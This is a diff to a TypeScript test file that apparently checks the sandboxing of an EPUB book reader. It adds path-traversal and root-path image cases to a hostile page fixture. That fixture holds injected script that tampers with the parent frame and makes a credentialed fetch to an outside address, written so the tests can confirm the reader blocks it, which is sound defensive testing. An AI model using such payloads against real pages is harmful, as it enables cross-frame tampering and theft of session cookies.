@@ -27,6 +27,7 @@ import { bookPolicy } from '../contract/index.ts';
 const SESSION = 'the-session';
 /** Whatever a page may try, at once; the address that would be asked for names the try. */
 const attack = (far: string) => `<p id="seen" onclick="top.stolen = 1">Hostile</p><img src="fine.svg" alt="fine"/>
+<img src="/EPUB/fine.svg" alt="root"/><img src="../../../EPUB/fine.svg" srcset="/EPUB/fine.svg 1x" alt="above"/>
 <script>
   try { parent.document.title = 'stolen'; } catch (e) {}
   try { fetch('${far}/by-fetch', { credentials: 'include' }); } catch (e) {}
@@ -264,10 +265,11 @@ test.each([
 });
 
 test.each(COPIES)(
-  '[READ-1] pictures of the book are there, and its files are no scripts for anybody: %s',
+  '[READ-1] [IMP-17] pictures of the book are there, and its files are no scripts for anybody: %s',
   async (_, inPage) => {
     const { page, frame, base } = await shown(inPage);
-    expect(await frame.evaluate("document.querySelector('img[alt=fine]').naturalWidth")).toBe(9);
+    for (const name of ['fine', 'root', 'above'])
+      expect(await frame.evaluate(`document.querySelector('img[alt=${name}]').naturalWidth`)).toBe(9);
     const load = (name: string) => `new Promise((done) => {
     const script = document.createElement('script');
     script.onload = () => done('run');
